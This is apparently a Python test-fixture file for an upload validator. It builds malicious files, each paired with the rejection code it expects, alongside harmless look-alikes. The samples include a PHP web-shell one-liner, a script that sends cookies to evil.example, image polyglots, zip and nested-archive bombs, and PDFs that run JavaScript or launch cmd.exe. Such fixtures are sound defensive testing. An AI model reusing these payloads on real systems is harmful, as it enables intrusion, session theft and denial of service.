"""Files that mean harm, made here from nothing, each with what the house says to it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

from PIL import Image

from lc_workflow.samples import photo, scan

JPEG, PNG, GIF, PDF = "image/jpeg", "image/png", "image/gif", "application/pdf"
DOC = "application/msword"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TEXT = "text/plain"

TAKEN = "taken"

PHOTO, PAPER = photo("An identity card"), scan("A land title")
ZEROS = bytes(20_000_000)
PHP = b"<?php system($_GET['c']); __HALT_COMPILER(); ?>"
WORD = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<r/>", "word/document.xml": b"<w:document/>"}


@dataclass(frozen=True)
class Brought:
    """A file as somebody brings it: under this name, saying that it is of this type; `verdict` is the code it gets."""

    what: str
    name: str
    claims: str
    content: bytes
    verdict: str

    def __str__(self) -> str:
        return self.what


def zipped(entries: Mapping[str, bytes]) -> bytes:
    with zipfile.ZipFile(file := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


def drawn(form: str, **more: object) -> bytes:
    Image.new("RGB", (40, 30), "red").save(file := io.BytesIO(), form, **more)
    return file.getvalue()


def a_pdf(action: bytes, *, packed: bool = False) -> bytes:
    """A PDF with this action on opening, in plain sight or in packed objects."""
    if not packed:
        return PAPER.replace(b"%%EOF", b"9 0 obj << /OpenAction " + action + b" >> endobj\n%%EOF", 1)
    body = zlib.compress(b"9 0 << /OpenAction " + action + b" >>")
    head = b"8 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n" % len(body)
    return PAPER.replace(b"%%EOF", head + body + b"\nendstream endobj\n%%EOF", 1)


def a_note(content: bytes) -> bytes:
    """A comment in a JPEG."""
    return b"\xff\xfe" + struct.pack(">H", len(content) + 2) + content


def a_wide_png(width: int, height: int) -> bytes:
    """A picture of so many pixels, all of them black, whose rows are packed away."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + chunk(b"IEND", b"")
    )


def nested(depth: int) -> bytes:
    """Archives in archives, of a size nobody would wonder at."""
    content = zipped({"zeros": bytes(1_000_000)})
    for _ in range(depth):
        content = zipped({f"{number}.zip": content for number in range(10)})
    return content


def an_ole(*names: str) -> bytes:
    """A compound file (MS-CFB) with these streams in its directory."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
    header += struct.pack("<IIIIIIIII", 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    header += struct.pack("<108I", *[0xFFFFFFFF] * 108)
    table = struct.pack("<128I", 0xFFFFFFFD, 2, 0xFFFFFFFE, *[0xFFFFFFFF] * 125)
    entries = b"".join(
        (coded := name.encode("utf-16-le")).ljust(64, b"\0") + struct.pack("<H", len(coded) + 2) + bytes(62)
        for name in ("Root Entry", *names)
    )
    return header.ljust(512, b"\0") + table + entries.ljust(1024, b"\0")


PAGE = b"<!DOCTYPE html><script>fetch('//evil.example/'+document.cookie)</script>"
LETTER = zipped(WORD)

HOSTILE = (
    Brought("a program called photo", "id.jpg", JPEG, b"MZ\x90\x00\x03" + bytes(300), "TypeNotAllowed"),
    Brought("a program called letter", "letter.docx", DOCX, b"\x7fELF\x02\x01\x01" + bytes(300), "TypeNotAllowed"),
    Brought("a page called text", "notes.txt", TEXT, PAGE, "TypeNotAllowed"),
    Brought("a drawing with a script", "logo.png", PNG, b"<svg onload='alert(1)'/>", "TypeNotAllowed"),
    Brought("a script behind many words", "notes.txt", TEXT, b"Dear Sir " * 9 + PAGE, "TypeNotAllowed"),
    Brought("a PDF that is an archive", "title.pdf", PDF, PAPER + zipped({"run.exe": b"MZ"}), "HarmfulContent"),
    Brought("a photo that is an archive", "id.jpg", JPEG, PHOTO + zipped({"run.exe": b"MZ"}), "HarmfulContent"),
    Brought(
        "a GIF that is a script", "a.gif", GIF, b"GIF89a/*" + drawn("GIF")[8:] + b"*/=1;alert(1)", "HarmfulContent"
    ),
    Brought("a GIF with a script alone", "a.gif", GIF, b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)//;", "NotAPicture"),
    Brought("a photo that is a PHAR", "id.jpg", JPEG, PHOTO[:2] + a_note(PHP) + PHOTO[2:], "HarmfulContent"),
    Brought("a photo with a program behind it", "id.jpg", JPEG, PHOTO + PHP, "HarmfulContent"),
    Brought("a PNG with a page inside", "a.png", PNG, drawn("PNG") + PAGE, "HarmfulContent"),
    Brought("a zip bomb", "letter.docx", DOCX, zipped(WORD | {"word/a.xml": ZEROS}), "HarmfulContent"),
    Brought("a bomb in a bomb", "letter.docx", DOCX, zipped(WORD | {"word/b.xlsx": nested(1)}), "HarmfulContent"),
    Brought("archives without end", "letter.docx", DOCX, zipped(WORD | {"word/b.bin": nested(3)}), "HarmfulContent"),
    Brought("a bomb of a spreadsheet", "income.xlsx", DOCX, zipped({"xl/workbook.xml": ZEROS}), "TypeNotAllowed"),
    Brought("a letter that lies", "a.docx", DOCX, LETTER.replace(b"\x0d\0\0\0", b"\x02\0\0\0"), "HarmfulContent"),
    Brought("50,000 by 50,000 pixels", "land.png", PNG, a_wide_png(50_000, 50_000), "PictureTooLarge"),
    Brought("half a photo", "id.jpg", JPEG, PHOTO[: len(PHOTO) // 2], "NotAPicture"),
    Brought("half a PNG", "id.png", PNG, drawn("PNG")[:-20], "NotAPicture"),
    Brought("a PNG whose bits fell over", "id.png", PNG, drawn("PNG").replace(b"IDAT", b"IDAT\0"), "NotAPicture"),
    Brought("half a GIF", "id.gif", GIF, drawn("GIF")[:-6], "NotAPicture"),
    Brought("half a WebP", "id.webp", "image/webp", drawn("WEBP")[:-9], "NotAPicture"),
    Brought("only the beginning of a photo", "id.jpg", JPEG, b"\xff\xd8\xff\xe0 a photo", "NotAPicture"),
    Brought(
        "a PDF that runs JavaScript", "a.pdf", PDF, a_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "HarmfulContent"
    ),
    Brought("one that spells it otherwise", "a.pdf", PDF, a_pdf(b"<< /S /J#61va#53cript /JS (1) >>"), "HarmfulContent"),
    Brought("one that packs it", "a.pdf", PDF, a_pdf(b"<< /S /JavaScript /JS (1) >>", packed=True), "HarmfulContent"),
    Brought("a PDF that starts a program", "a.pdf", PDF, a_pdf(b"<< /S /Launch /F (cmd.exe) >>"), "HarmfulContent"),
    Brought("a PDF that is PHP", "a.pdf", PDF, PAPER + PHP, "HarmfulContent"),
    Brought("a letter with macros", "a.docx", DOCX, zipped(WORD | {"word/vbaProject.bin": b"\0"}), "TypeNotAllowed"),
    Brought("an old letter with macros", "a.doc", DOC, an_ole("WordDocument", "Macros", "VBA"), "TypeNotAllowed"),
    Brought("nothing", "empty.pdf", PDF, b"", "EmptyFile"),
)
"""What is refused, and why it is not by its name."""

HARMLESS = (
    Brought("a photo", "id.jpg", JPEG, PHOTO, TAKEN),
    Brought("a photo of a Samsung, which writes behind it", "id.jpg", JPEG, PHOTO + b"SEFHj\0\0\0SEFT", TAKEN),
    Brought("a GIF", "a.gif", GIF, drawn("GIF"), TAKEN),
    Brought("a PNG that says who drew it", "a.png", PNG, drawn("PNG", dpi=(72, 72)), TAKEN),
    Brought("a WebP", "a.webp", "image/webp", drawn("WEBP"), TAKEN),
    Brought("a scan", "title.pdf", PDF, PAPER, TAKEN),
    Brought("a PDF with packed objects", "title.pdf", PDF, a_pdf(b"[3 0 R /Fit]", packed=True), TAKEN),
    Brought("a letter", "letter.docx", DOCX, LETTER, TAKEN),
    Brought("a letter with a spreadsheet", "a.docx", DOCX, zipped(WORD | {"word/e.xlsx": zipped(WORD)}), TAKEN),
    Brought("an old letter", "letter.doc", DOC, an_ole("WordDocument", "1Table"), TAKEN),
    Brought("a text", "notes.txt", TEXT, "ចំណូល 5 < 6".encode(), TAKEN),
)
"""What looks a little like the above, and is taken."""
